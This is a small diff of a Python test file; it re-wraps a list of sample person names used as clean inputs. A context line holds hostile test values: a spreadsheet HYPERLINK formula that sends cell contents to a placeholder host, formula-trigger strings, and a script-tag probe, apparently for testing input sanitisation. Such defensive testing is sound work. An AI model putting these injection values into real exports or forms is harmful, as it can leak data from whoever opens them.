@@ -22,7 +22,8 @@ def what(claims, rows):
         '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")', "@SUM(A1)", "\t=1+1", "<script>alert(1)</script>", "—",
     )),
     clear=tuple({"name": name} for name in (
-        "测试甲", "测", "𠮷测", "测𬬩", "José", "JOSE DA SILVA", "J. O'Neil-Li", "买买提•艾力", "买买提.艾力", "测　甲", "王明(Wang Ming)", "测试甲、测试乙", "〇甲",
+        "测试甲", "测", "𠮷测", "测𬬩", "José", "JOSE DA SILVA", "J. O'Neil-Li", "买买提•艾力", "买买提.艾力", "测　甲",
+        "王明(Wang Ming)", "测试甲、测试乙", "〇甲",
     )),
 )
 def name_damaged(claims):
